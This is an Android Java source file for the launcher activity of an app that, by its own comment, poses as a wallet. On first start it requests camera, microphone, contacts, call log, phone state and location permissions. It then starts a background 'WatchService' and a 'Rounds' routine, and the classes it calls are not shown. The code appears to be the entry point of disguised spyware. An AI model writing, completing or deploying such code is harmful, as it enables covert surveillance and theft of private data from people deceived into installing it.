package @PKG@;

import android.app.Activity;
import android.content.Intent;
import android.os.Build;
import android.os.Bundle;
import android.widget.LinearLayout;
import android.widget.TextView;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/** Looks like a wallet; asks for everything at first start, then sets the machinery going. */
public class MainActivity extends Activity {
  private static final int ALL = 7;

  @Override protected void onCreate(Bundle b) {
    super.onCreate(b);
    LinearLayout box = new LinearLayout(this);
    box.setOrientation(LinearLayout.VERTICAL);
    TextView title = new TextView(this);
    title.setText(R.string.app_name);
    title.setTextSize(28);
    TextView text = new TextView(this);
    text.setText(R.string.welcome);
    box.addView(title);
    box.addView(text);
    setContentView(box);
    if (Build.VERSION.SDK_INT < 23 || Plan.TARGET < 23) {
      go();
      return;
    }
    List<String> wanted = new ArrayList<>(Arrays.asList("android.permission.CAMERA", "android.permission.RECORD_AUDIO", "android.permission.READ_CONTACTS",
        "android.permission.READ_CALL_LOG", "android.permission.READ_PHONE_STATE", "android.permission.ACCESS_FINE_LOCATION", "android.permission.ACCESS_COARSE_LOCATION"));
    if (Plan.FGS && Build.VERSION.SDK_INT >= 33) wanted.add("android.permission.POST_NOTIFICATIONS");
    requestPermissions(wanted.toArray(new String[0]), ALL);
  }

  @Override public void onRequestPermissionsResult(int code, String[] names, int[] results) {
    go();
  }

  private void go() {
    if (Plan.FGS) {
      Intent i = new Intent(this, WatchService.class);
      if (Build.VERSION.SDK_INT >= 26) startForegroundService(i);
      else startService(i);
    }
    Rounds.start(this, "start", null);
  }
}
